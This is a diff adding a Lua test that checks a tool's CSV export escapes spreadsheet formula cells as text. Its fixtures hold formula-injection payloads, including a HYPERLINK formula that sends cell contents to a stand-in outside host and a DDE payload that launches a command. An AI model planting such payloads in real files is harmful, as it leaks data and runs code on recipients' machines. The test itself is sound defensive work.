@@ -95,6 +95,32 @@ for c in cal.walk('VTODO'):
   end)
 end)
 
+describe("what a seller shares", function()
+  local dir, db
+  before_each(function() dir, db = h.fresh_store() end)
+  after_each(function() h.rm(dir) end)
+
+  it("export csv: a cell a spreadsheet would run as a formula opens as text", function()
+    h.write(dir .. "/n/a.md", '---\naccount: =HYPERLINK("http://x.example/?"&A1,"Acme")\ndate: 2026-11-20\n---\n# Acme\n'
+      .. "- NEXT: =1+2 send the deck #compliance\n- NEXT: @SUM(A1) call #non\n- NEXT: +cmd|' /C calc'!A0 #non\n"
+      .. "- NEXT: -2+3 seats #non\n- NEXT: send 2+2=4 #non\n")
+    assert.are.equal(0, select(3, h.fulog("index n", { cwd = dir, db = db })))
+    local out = h.fulog("export csv", { cwd = dir, db = db })
+    local f = dir .. "/out.csv"
+    h.write(f, out)
+    local res = h.sh(("/usr/bin/python3 -c %s %s 2>&1; echo \"exit=$?\""):format(h.q([==[
+import csv, sys
+for r in csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')):
+    print(r['account'] + '|' + r['text'])
+]==]), h.q(f)))
+    assert.truthy(res:find("exit=0", 1, true), res)
+    local acc = "'=HYPERLINK(\"http://x.example/?\"&A1,Acme)|"
+    for _, t in ipairs({ "'=1+2 send the deck", "'@SUM(A1) call", "'+cmd|' /C calc'!A0", "'-2+3 seats", "send 2+2=4" }) do
+      assert.truthy(("\n" .. res):find("\n" .. acc .. t .. "\n", 1, true), t .. " in " .. res)
+    end
+  end)
+end)
+
 describe("the merge driver names git's path", function()
   local t
   before_each(function() t = h.tmpdir() end)
